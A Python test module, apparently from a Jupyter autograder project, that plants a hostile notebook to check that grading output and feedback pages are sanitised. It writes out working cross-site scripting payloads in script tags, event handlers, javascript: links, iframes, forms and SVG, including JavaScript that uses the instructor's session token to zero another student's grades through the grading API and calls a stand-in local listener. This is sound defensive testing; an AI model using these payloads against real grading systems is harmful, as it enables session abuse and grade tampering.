"""A submission whose markdown and outputs would run script in a browser.

Its markdown holds ``<script>``, event handlers, SVG, ``javascript:``
links, iframes, forms, embedded objects, styles and a refresh; a code cell
displays HTML with scripts, an SVG with ``onload``, JavaScript, Markdown, a
widget view and a PNG that breaks out of its attribute.  Each script would
mark the page, call a URL and, with the instructor's session, set the
honest student's grades to 0 through the formgrader's API.  Graded in the
cheating class, its autograded notebook keeps only inert outputs and its
feedback holds none of it.  ``tests/test_sanitised_html.py`` opens the same
submission in the formgrader and its feedback in Chromium.
"""

import re
from html.parser import HTMLParser

import nbformat

ASSIGNMENT = "00_setup"
NOTEBOOK = "00_setup.ipynb"
STUDENT = "html_injection"
#: The discard port: nothing listens there.
NOWHERE = "http://127.0.0.1:9"
WRONG = '''
def to_unit_range(image):
    """Return an RGB float32 copy of a uint8 image scaled to [0, 1]."""
    return np.zeros((1, 1, 3), np.float32)
'''
#: Tags no student's part of a page may hold.
ACTIVE_TAGS = {"script", "iframe", "frame", "form", "object", "embed", "svg",
               "style", "link", "meta", "base"}
INERT_OUTPUT_TYPES = {"text/plain", "text/html", "image/png"}


def payload(listener, tag):
    """JavaScript that marks the page, calls home and zeroes the honest."""
    return (
        "window.facesStylesXss=(window.facesStylesXss||[]).concat(['" + tag
        + "']);fetch('" + listener + "/" + tag + "',{mode:'no-cors'});"
        "var x=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1];"
        "fetch('/formgrader/api/submitted_notebooks/00_setup/00_setup')"
        ".then(function(r){return r.json()}).then(function(s){s.forEach("
        "function(n){if(n.student==='honest'){fetch('/formgrader/api/grades"
        "?submission_id='+n.id).then(function(r){return r.json()}).then("
        "function(g){g.forEach(function(d){fetch('/formgrader/api/grade/'"
        "+d.id,{method:'PUT',headers:{'X-XSRFToken':x},body:JSON.stringify("
        "{manual_score:0})})})})}})})")


def hostile_markdown(listener):
    """A markdown cell with every way we know of to run or fetch."""
    def run(tag):
        return payload(listener, tag)

    return "\n\n".join([
        "## My answers",
        f'<img src=x onerror="{run("md-img")}">',
        f'<svg onload="{run("md-svg")}"><circle r="5"/></svg>',
        f"<script>{run('md-script')}</script>",
        f'<a href="javascript:{run("md-a-href")}">a link</a>',
        "[a markdown link](javascript:void(0))",
        f'<iframe src="{listener}/md-iframe"></iframe>',
        f'<iframe srcdoc="<img src=x onerror=&quot;{run("md-srcdoc")}'
        '&quot;>"></iframe>',
        f'<form action="{listener}/md-form"><input name="q">'
        "<button>send</button></form>",
        f'<object data="{listener}/md-object"></object>',
        f'<embed src="{listener}/md-embed">',
        f"<style>@import url({listener}/md-style);</style>",
        f'<link rel="stylesheet" href="{listener}/md-link">',
        # Late enough for the other payloads to run first.
        f'<meta http-equiv="refresh" content="9;url={listener}/md-refresh">',
        f'<details open ontoggle="{run("md-details")}"><summary>s</summary>'
        "</details>",
        f'<img src="{listener}/md-image">',
    ])


def hostile_outputs(listener):
    """A code cell whose outputs carry scripts of every kind."""
    def run(tag):
        return payload(listener, tag)

    outputs = [
        ({"text/html": f"<script>{run('html-script')}</script>"
                       f'<img src=x onerror="{run("html-img")}">'
                       f'<iframe src="{listener}/html-iframe"></iframe>'
                       f'<form action="{listener}/html-form"><button>go'
                       "</button></form>"}, {}),
        ({"text/html": f"<script>{run('isolated')}</script>"},
         {"text/html": {"isolated": True}}),
        ({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" '
                           f'onload="{run("svg")}"><script>'
                           f'{run("svg-script")}</script></svg>',
          "text/plain": "svg"}, {}),
        ({"application/javascript": run("javascript"),
          "text/plain": "js"}, {}),
        ({"text/markdown": f'<img src=x onerror="{run("markdown-output")}">'
                           " [go](javascript:void(0))",
          "text/plain": "markdown"}, {}),
        ({"application/vnd.jupyter.widget-view+json": {
            "model_id": "0", "version_major": 2, "version_minor": 0},
          "text/plain": "widget"}, {}),
        ({"image/png": "x\" onerror=\"" + run("png"), "text/plain": "png"},
         {}),
    ]
    lines = ["from IPython.display import publish_display_data"]
    for data, metadata in outputs:
        lines.append(f"publish_display_data({data!r}, metadata={metadata!r})")
    lines.append(f"print({'<script>' + run('stdout') + '</script>'!r})")
    return "\n".join(lines)


def with_cells(notebook, *cells):
    """Put ``cells`` after the notebook's first code cell (before answers)."""
    first = next(index for index, cell in enumerate(notebook.cells)
                 if cell.cell_type == "code")
    notebook.cells[first + 1:first + 1] = list(cells)
    return notebook


class _ActiveContent(HTMLParser):
    """Collects the tags, handlers and script URLs of a piece of HTML."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            url = re.sub(r"\s", "", value or "").lower()
            if name.startswith("on") or url.startswith(
                    ("javascript:", "vbscript:")):
                self.found.append(f"<{tag} {name}={value!r:.80}>")


def active_content(html):
    """Return the active tags, handlers and script URLs of ``html``."""
    parser = _ActiveContent()
    parser.feed(html)
    parser.close()
    return parser.found


def inert_problems(notebook):
    """Return what in ``notebook``'s outputs could still run or fetch."""
    problems = []
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            problems += [f"output type {key}" for key in data
                         if key not in INERT_OUTPUT_TYPES]
            image = data.get("image/png", "")
            if not re.fullmatch(r"[A-Za-z0-9+/=\s]*", image):
                problems.append("image/png that is not base64")
            problems += active_content(data.get("text/html", ""))
    return problems


def page_problems(page):
    """Return the active content in the notebook part of an HTML page."""
    return active_content(page[page.index('id="notebook-container"'):])


CHEATS = {STUDENT: (hostile_outputs(NOWHERE), "import numpy as np\n" + WRONG)}


def prepare(root):
    """Add the hostile markdown cell to the student's notebook."""
    path = root / "submitted" / STUDENT / ASSIGNMENT / NOTEBOOK
    notebook = nbformat.read(path, 4)
    notebook.cells.insert(
        1, nbformat.v4.new_markdown_cell(hostile_markdown(NOWHERE)))
    nbformat.write(notebook, path)


def test_html_injection_is_inert_on_disk_and_in_feedback(graded, feedback):
    root = graded[0]
    autograded = nbformat.read(
        root / "autograded" / STUDENT / ASSIGNMENT / NOTEBOOK, 4)
    problems = inert_problems(autograded)
    assert problems == [], problems
    # What was cleaned is shown as text, not lost without a trace.
    assert "&lt;script&gt;" in str(autograded.cells)
    for student in (STUDENT, "honest"):
        problems = page_problems(feedback[student])
        assert problems == [], (student, problems)
    assert "My answers" in feedback[STUDENT]
